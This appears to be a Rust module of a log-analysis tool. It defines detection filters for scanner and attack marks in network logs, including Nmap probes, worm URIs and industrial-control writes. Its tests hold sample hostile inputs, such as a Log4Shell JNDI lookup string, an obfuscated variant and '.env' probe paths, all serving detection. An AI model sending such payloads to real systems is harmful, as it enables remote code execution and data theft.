//! Indicators: marks that scanners leave in a log, each a filter with its meaning.
//!
//! Does not know rows or counts. Invariant: ids are unique and stable (a saved hunt names them), every filter parses, and it
//! uses no field that is not listed.

use super::{industrial::INDUSTRIAL, nmap::NMAP, notable::NOTABLE, protocols::PROTOCOLS, scanners::SCANNERS};
use crate::protocol::Effort;

/// One mark of a scanner.
#[derive(Debug)]
pub struct Indicator {
    pub id: &'static str,
    /// A few words for a list.
    pub name: &'static str,
    /// What it is, what else may look like it, and where it comes from.
    pub about: &'static str,
    /// How easily an attacker changes it.
    pub effort: Effort,
    pub filter: &'static str,
    /// A log without one of these fields cannot show the mark.
    pub fields: &'static [&'static str],
    /// Where a log has one of these, another indicator reads it better.
    pub lacks: &'static [&'static str],
}

/// All indicators, in the order in which they are shown: the marks of scanners, then what else is worth a look.
pub fn all() -> impl Iterator<Item = &'static Indicator> {
    NMAP.iter().chain(PROTOCOLS).chain(SCANNERS).chain(INDUSTRIAL).chain(NOTABLE)
}

impl Indicator {
    /// Whether scanners leave it.
    pub fn of_scanners(&self) -> bool {
        !INDUSTRIAL.iter().chain(NOTABLE).any(|one| one.id == self.id)
    }
}

/// Questions for what a device is. Engineering tools ask them too: alone they make nobody a scanner.
const IDENTITY: [&str; 4] = ["name-server-version", "modbus-identity", "modbus-identity-asked", "enip-list-identity"];

impl Indicator {
    /// The same for logs without these fields.
    pub(super) const fn unless(self, lacks: &'static [&'static str]) -> Indicator {
        Indicator { lacks, ..self }
    }

    pub fn asks_identity(&self) -> bool {
        IDENTITY.contains(&self.id)
    }
}

/// The indicators whose fields a log has.
pub fn indicators_for(has_field: impl Fn(&str) -> bool) -> Vec<&'static Indicator> {
    let fits = |one: &&Indicator| {
        one.fields.iter().all(|field| has_field(field)) && !one.lacks.iter().any(|field| has_field(field))
    };
    all().filter(fits).collect()
}

/// Filter text for the rows that show any of those marks among these that scanners leave; empty for none of them.
pub fn any_filter(indicators: &[&Indicator]) -> String {
    let marks: Vec<_> = indicators.iter().filter(|one| one.of_scanners()).collect();
    match &marks[..] {
        [only] => only.filter.to_owned(),
        several => several.iter().map(|one| format!("({})", one.filter)).collect::<Vec<_>>().join(" OR "),
    }
}

#[cfg(test)]
#[allow(clippy::panic)]
mod tests {
    use super::*;
    use crate::filter::{Expr, FieldPattern, Leaf, Test, parse};
    use crate::table::decode::decode;
    use crate::table::kind::Kind;
    use std::collections::{BTreeSet, HashMap, HashSet};

    fn names(expr: &Expr, out: &mut HashSet<String>) {
        match expr {
            Expr::And(parts) | Expr::Or(parts) => parts.iter().for_each(|part| names(part, out)),
            Expr::Not(part) => names(part, out),
            Expr::Leaf(Leaf { field: FieldPattern::Name(name), .. }) => out.extend([name.clone()]),
            other => panic!("{other} looks at more than its fields"),
        }
    }

    #[test]
    fn every_filter_is_readable_and_names_its_fields() {
        let mut ids = HashSet::new();
        for indicator in all() {
            assert!(ids.insert(indicator.id), "{} twice", indicator.id);
            let expr = parse(indicator.filter).unwrap_or_else(|problem| panic!("{}: {problem:?}", indicator.id));
            let mut used = HashSet::new();
            names(&expr, &mut used);
            let listed: HashSet<_> = indicator.fields.iter().map(|field| (*field).to_owned()).collect();
            assert_eq!(used, listed, "{}", indicator.id);
        }
        assert!(IDENTITY.iter().all(|id| ids.contains(id)));
    }

    #[test]
    fn any_of_them_is_one_filter() {
        let fitting = indicators_for(|field| field == "user_agent");
        assert!(fitting.len() > 3 && fitting.iter().all(|one| one.fields == ["user_agent"]));
        let all: Vec<_> = all().collect();
        assert!(parse(&any_filter(&all)).is_ok());
        assert_eq!(any_filter(&[]), "");
        assert!(indicators_for(|_| false).is_empty());
    }

    type Row<'a> = HashMap<&'a str, &'a str>;

    /// The obvious reading of a filter over the texts of one row.
    fn hits(expr: &Expr, row: &Row<'_>) -> bool {
        match expr {
            Expr::All => true,
            Expr::And(parts) => parts.iter().all(|part| hits(part, row)),
            Expr::Or(parts) => parts.iter().any(|part| hits(part, row)),
            Expr::Not(part) => !hits(part, row),
            Expr::Leaf(Leaf { field, test, .. }) => {
                let FieldPattern::Name(name) = field else { panic!("{expr}") };
                let raw = row.get(name.as_str()).copied().unwrap_or("-");
                match test {
                    Test::IsSet => raw != "-" && raw != "(empty)",
                    Test::Empty => raw == "(empty)",
                    Test::Value(matcher) => raw != "-" && matcher.compile(Kind::Text).matches(&decode(raw.as_bytes())),
                    other => panic!("{other:?}"),
                }
            }
        }
    }

    /// As the tools write themselves, beside what is like it and none.
    #[test]
    fn other_logs_show_marks_too() {
        for (id, field, shown, like) in [
            ("nmap-rdp-cookie", "cookie", "nmap", "nmapuser"),
            ("nmap-smtp-helo", "helo", "nmap.scanme.org", "mail.example.org"),
            ("nmap-ssh-client", "client", "SSH-2.0-Nmap-SSH2-Hostkey", "SSH-2.0-OpenSSH_9.6"),
            (
                "scanner-software",
                "unparsed_version",
                "Mozilla/5.0 (compatible; Nmap Scripting Engine; x)",
                "Mozilla/5.0",
            ),
            ("zeek-scan-notice", "note", "Scan::Port_Scan", "SSL::Invalid_Server_Cert"),
            ("zeek-scan-notice", "note", "ICMP::ICMPAddressScan", "Scanner::Started"),
            ("zeek-scan-notice", "note", "PortScanSummary", "Intel::Notice"),
            ("name-server-version", "query", "version.bind", "version.example.org"),
            ("modbus-identity", "func", "REPORT_SLAVE_ID", "READ_COILS"),
            ("enip-list-identity", "enip_command", "List Identity", "Send RR Data"),
            ("sip-scanners", "user_agent", "friendly-scanner", "friendly"),
            ("log4shell", "user_agent", "${jndi:ldap://203.0.113.9:389/a}", "jndi/1.0"),
            ("log4shell", "uri", "/?x=%24%7B${lower:j}ndi:x}", "/jndi"),
            ("worm-uris", "uri", "/Mozi.m", "/mozilla"),
            ("worm-uris", "uri", "/setup.cgi?next_file=netgear.cfg", "/setup.cgi"),
            ("exposed-files", "uri", "/api/.env", "/env"),
            ("modbus-writes", "func", "WRITE_SINGLE_REGISTER", "READ_HOLDING_REGISTERS"),
            ("modbus-writes", "func", "MASK_WRITE_REGISTER", "WRITE_FILE_RECORD_EXCEPTION"),
            ("modbus-unusual", "func", "unknown-156", "READ_COILS"),
            ("modbus-unusual", "func", "FIRMWARE_REPLACEMENT", "REPORT_SLAVE_ID"),
            ("modbus-refused", "func", "WRITE_FILE_RECORD_EXCEPTION", "READ_EXCEPTION_STATUS"),
            ("modbus-refused", "exception", "ILLEGAL_FUNCTION", "-"),
            ("bacnet-refused", "pdu_type", "REJECT_PDU", "CONFIRMED_REQUEST"),
            ("dnp3-commands", "fc_request", "DIRECT_OPERATE_NR", "READ"),
            ("dnp3-commands", "fc_request", "OPERATE", "SELECT"),
            ("dnp3-commands", "fc_request", "DELETE_FILE", "DELAY_MEASURE"),
            ("s7-writes", "function_name", "PLC Stop", "Read Variable"),
            ("s7-writes", "function_name", "Write Variable", "Start Upload"),
            ("bacnet-controls", "pdu_service", "reinitialize_device", "read_property"),
            ("bacnet-writes", "pdu_service", "write-property", "read-property-ack"),
            ("bacnet-controls", "pdu_service", "device-communication-control-request", "who-is"),
            ("bacnet-discovery", "pdu_service", "who-has", "i-have"),
            ("s7-controls", "subfunction_name", "Set Clock (2)", "Read Clock"),
            ("s7-controls", "subfunction_name", "Memory Reset", "Read SZL"),
            ("s7-identity", "subfunction_name", "List Blocks of Type", "Get Block Info"),
            ("cip-writes", "cip_service", "Set Attribute Single", "Get Attribute List"),
            ("cip-refused", "cip_status", "Privilege Violation", "Partial Transfer"),
            ("enip-refused", "enip_status", "Invalid Session Handle", "0x00000000"),
            ("opcua-writes", "identifier_str", "CallRequest", "CallResponse"),
            ("opcua-refused", "severity_str", "Severity_Bad", "Severity_Good"),
            (
                "opcua-open",
                "sec_policy_uri",
                "http://opcfoundation.org/UA/SecurityPolicy#None",
                "http://opcfoundation.org/UA/SecurityPolicy#Basic256",
            ),
            ("srtp-writes", "service_request_code", "Set PLC (run vs stop)", "Return fault table"),
            (
                "srtp-writes",
                "service_request_code",
                "Program load (download to PLC)",
                "Program store (upload from PLC)",
            ),
            ("hart-writes", "token_passing_pdu_command_number", "Write Long Tag", "Read Long Tag"),
            ("roc-writes", "opcode", "Write Parameters (181)", "Request Parameters (180)"),
            ("genisys-controls", "header", "Execute Controls", "Control Data Checkback"),
            ("carrying-records", "qtype_name", "TXT", "A"),
            (
                "long-names",
                "query",
                "0123456789012345678901234567890123456789012345678901234567.example",
                "www.example.org",
            ),
            ("doubtful-certificates", "validation_status", "self signed certificate", "ok"),
            ("remote-services", "operation", "SvcCtlCreateServiceW", "ept_map"),
            ("smb-changes", "action", "SMB::FILE_WRITE", "SMB::FILE_READ"),
        ] {
            let filter = all().find(|one| one.id == id).map_or("", |one| one.filter);
            let expr = parse(filter).unwrap_or(Expr::All);
            assert!(hits(&expr, &HashMap::from([(field, shown)])), "{id}: {shown}");
            assert!(!hits(&expr, &HashMap::from([(field, like)])), "{id}: {like}");
        }
    }

    /// Clients and pairs: counted on the file itself with text tools, see the reference notes on this log.
    #[test]
    #[allow(clippy::print_stdout)]
    fn a_real_scan_is_seen_whole() {
        let path = concat!(env!("CARGO_MANIFEST_DIR"), "/../shared/data/dragos-blog/http.log");
        let Ok(log) = std::fs::read_to_string(path) else { return println!("skipped: {path} is not there") };
        let header = log.lines().find_map(|line| line.strip_prefix("#fields\t")).unwrap_or("");
        let lines = log.lines().filter(|line| !line.starts_with('#'));
        let rows: Vec<Row<'_>> = lines.map(|line| header.split('\t').zip(line.split('\t')).collect()).collect();
        let pair = |row: &Row<'_>| (row["id.orig_h"].to_owned(), row["id.resp_h"].to_owned());

        let fitting = indicators_for(|field| header.split('\t').any(|name| name == field));
        let exprs: Vec<_> =
            fitting.iter().filter_map(|one| parse(one.filter).ok().map(|expr| (one.id, expr))).collect();
        let found = |id: &str| {
            let expr = exprs.iter().find(|one| one.0 == id).map(|one| &one.1);
            rows.iter().filter(|row| expr.is_some_and(|expr| hits(expr, row))).count()
        };
        for (id, count) in [
            ("nmap-nse-agent", 171),
            ("nmap-nice-ports", 8),
            ("nmap-rtsp-probe", 5),
            ("nmap-sip-probe", 4),
            ("nmap-t3", 2),
            ("nmap-options-probe", 8),
            ("nmap-git", 11),
            ("nmap-hadoop", 7),
            ("nmap-random-method", 0),
            // User names but for two empty ones, POST to /goform/svLogin, one PUT.
            ("http-names", 21),
            // Three to /goform/svLogin, ten from /auth/accountpassword.asp.
            ("http-log-on-forms", 13),
            ("http-changes", 1),
        ] {
            assert_eq!(found(id), count, "{id}");
        }

        let any = parse(&any_filter(&fitting)).unwrap_or(Expr::All);
        let pairs: BTreeSet<_> = rows.iter().filter(|row| hits(&any, row)).map(pair).collect();
        let clients: BTreeSet<_> = pairs.iter().map(|pair| pair.0.as_str()).collect();
        assert_eq!(Vec::from_iter(clients), ["192.168.2.113", "192.168.2.42", "192.168.2.64", "192.168.2.88"]);
        assert_eq!(pairs.len(), 14);
        assert_eq!(rows.iter().filter(|row| pairs.contains(&pair(row))).count(), 417);
        let marks = fitting.iter().filter(|one| one.of_scanners()).filter_map(|one| parse(one.filter).ok());
        let marks: Vec<_> = marks.collect();
        assert_eq!(
            rows.iter().filter(|row| hits(&any, row)).count(),
            rows.iter().filter(|row| marks.iter().any(|one| hits(one, row))).count()
        );
    }
}
